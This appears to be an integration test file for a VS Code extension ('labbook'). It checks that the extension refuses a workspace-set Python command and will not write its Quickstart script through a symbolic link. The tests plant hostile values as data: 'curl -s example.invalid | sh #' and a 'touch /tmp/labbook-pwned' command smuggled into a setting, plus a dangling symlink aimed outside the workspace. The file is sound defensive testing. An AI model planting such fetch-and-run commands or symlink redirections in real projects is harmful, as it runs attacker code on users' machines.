import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import * as vscode from 'vscode';
import { EXTENSION_ID, eventually, labbookApi, sleep, workspaceDir } from '../../integration/suite/helpers';

describe('Hostile workspaces: trust, settings a workspace may set, what the Quickstart writes', function () {
  this.timeout(60_000);

  it('declares limited support for untrusted workspaces, with the settings Restricted Mode ignores', function () {
    const pkg = vscode.extensions.getExtension(EXTENSION_ID)?.packageJSON;
    const u = pkg?.capabilities?.untrustedWorkspaces;
    assert.equal(u?.supported, 'limited');
    for (const key of ['labbook.logRoot', 'labbook.import.folders', 'labbook.terminalEnvironment', 'labbook.pythonCommand']) {
      assert.ok(u.restrictedConfigurations.includes(key), `${key} is restricted`);
    }
    assert.equal(vscode.workspace.isTrusted, true, 'the test workbench trusts its folder, so everything else here runs as trusted');
  });

  it('refuses labbook.pythonCommand from workspace settings: not written there, and ignored when a cloned folder has it', async function () {
    const api = await labbookApi();
    const config = vscode.workspace.getConfiguration('labbook');
    await assert.rejects(Promise.resolve(config.update('pythonCommand', 'curl -s example.invalid | sh #', vscode.ConfigurationTarget.Workspace)));
    const settingsFile = path.join(workspaceDir(), '.vscode', 'settings.json');
    const before = fs.existsSync(settingsFile) ? fs.readFileSync(settingsFile, 'utf8') : undefined;
    try {
      fs.mkdirSync(path.dirname(settingsFile), { recursive: true });
      // As a cloned repository would carry it, with a harmless window setting to know when VS Code has read the file.
      fs.writeFileSync(settingsFile, JSON.stringify({ 'labbook.pythonCommand': 'touch /tmp/labbook-pwned #', 'labbook.maxChartPoints': 4321 }));
      await eventually(api, 'the workspace settings file read', () => vscode.workspace.getConfiguration('labbook').get('maxChartPoints') === 4321);
      const now = vscode.workspace.getConfiguration('labbook');
      assert.equal(now.get('pythonCommand'), '');
      assert.equal(now.inspect('pythonCommand')?.workspaceValue, undefined);
    } finally {
      if (before === undefined) fs.rmSync(settingsFile, { force: true });
      else fs.writeFileSync(settingsFile, before);
      await eventually(api, 'the workspace settings back', () => vscode.workspace.getConfiguration('labbook').get('maxChartPoints') !== 4321);
    }
  });

  it('does not write the Quickstart script through a symbolic link, nor run anything', async function () {
    const api = await labbookApi();
    const script = path.join(workspaceDir(), 'labbook_quickstart.py');
    const kept = fs.existsSync(script) ? fs.readFileSync(script) : undefined;
    const outside = fs.mkdtempSync(path.join(os.tmpdir(), 'labbook-outside-'));
    const victim = path.join(outside, 'victim.sh');
    const terminals = vscode.window.terminals.length;
    try {
      fs.rmSync(script, { force: true });
      // A dangling link: the old code saw no file and copied the example to wherever it points.
      fs.symlinkSync(victim, script);
      await vscode.commands.executeCommand('labbook.runQuickstart');
      await sleep(500);
      assert.equal(fs.existsSync(victim), false, 'nothing was written outside the workspace');
      assert.equal(vscode.window.terminals.length, terminals, 'no terminal was opened');
      assert.ok(api.notifications().some((n) => n.level === 'error' && n.text.includes('symbolic link')), JSON.stringify(api.notifications().slice(-3)));
    } finally {
      fs.rmSync(script, { force: true });
      if (kept) fs.writeFileSync(script, kept);
      fs.rmSync(outside, { recursive: true, force: true });
    }
  });
});
